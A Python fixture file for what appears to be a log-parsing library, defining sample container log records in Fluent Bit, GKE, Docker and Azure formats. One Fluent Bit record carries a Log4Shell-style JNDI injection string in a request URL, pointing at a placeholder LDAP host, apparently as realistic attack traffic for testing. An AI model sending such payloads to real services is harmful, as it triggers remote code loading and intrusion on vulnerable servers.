"""Lines of our own making, in every collector's form."""

from __future__ import annotations

from typing import Any

from stratagem.sources._contract import Example
from stratagem.sources._samples import dump, lines
from stratagem.sources.container_logs.variants import KIND, KINDS

_CLUSTER = "projects/example-prod/locations/europe-west1/clusters/prod"
_POD = {"namespace_name": "shop", "pod_name": "web-6b9f7c8d5f-x2x7k", "container_name": "web"}

RECORDS: dict[str, dict[str, Any]] = {
    "fluent_bit": {
        KIND: KINDS,
        "log": '203.0.113.7 - - "GET /?q=${jndi:ldap://203.0.113.9/a} HTTP/1.1" 200\n',
        "stream": "stdout",
        "time": "2026-11-20T10:00:01.123456789Z",
        "kubernetes": {
            **_POD,
            "host": "node-1",
            "container_image": "registry.example.com/shop/web:1",
            "docker_id": "ab" * 32,
            "labels": {"app": "web"},
        },
    },
    "gke": {
        KIND: KINDS,
        "log": "connection refused",
        "stream": "stderr",
        "time": "2026-11-20T10:00:02.200653463Z",
        "severity": "ERROR",
        "uid": "1wexample1",
        "kubernetes": {"cluster": _CLUSTER, **_POD},
    },
    "docker": {KIND: KINDS, "log": "root@host:/# ls\r\n", "stream": "stdout", "time": "2026-11-20T10:00:03.2Z"},
}
"""Name -> canonical record."""


def _entry(number: int, kind: str, log: str, **payload: Any) -> dict[str, Any]:
    told = {"project_id": "example-prod", "location": "europe-west1", "cluster_name": "prod"}
    told |= _POD if kind == "k8s_container" else {"node_name": "node-1"}
    return {
        "insertId": f"1wexample{number}",
        "logName": f"projects/example-prod/logs/{log}",
        "timestamp": f"2026-11-20T10:00:{number:02}.200653463Z",
        "severity": "INFO",
        "resource": {"type": kind, "labels": told},
        **payload,
    }


_ENTRIES = [
    _entry(4, "k8s_container", "stderr", textPayload="connection refused"),
    _entry(5, "k8s_container", "stdout", jsonPayload={"message": "paid", "order": 7}),
    _entry(6, "k8s_node", "kubelet", jsonPayload={"MESSAGE": "Killing container", "SYSLOG_IDENTIFIER": "kubelet"}),
]
_ROW = {
    "TimeGenerated": "2026-11-20T10:00:07.2Z",
    "Computer": "aks-pool-1",
    "ContainerId": "cd" * 32,
    "ContainerName": "web",
    "PodName": "web-6b9f7c8d5f-x2x7k",
    "PodNamespace": "shop",
    "LogMessage": "started",
    "LogSource": "stdout",
    "LogLevel": "info",
    "_ResourceId": "/subscriptions/00000000-0000-0000-0000-000000000001/resourcegroups/prod/providers/"
    "microsoft.containerservice/managedclusters/prod",
}
_BARE = [{name: value for name, value in RECORDS[key].items() if name != KIND} for key in ("fluent_bit", "docker")]

EXAMPLES = (
    Example(name="fluent_bit_and_docker", raw=lines(_BARE), records=2),
    Example(name="gke", raw=dump(_ENTRIES), records=3),
    Example(name="container_log_v2", raw=dump([_ROW])),
)
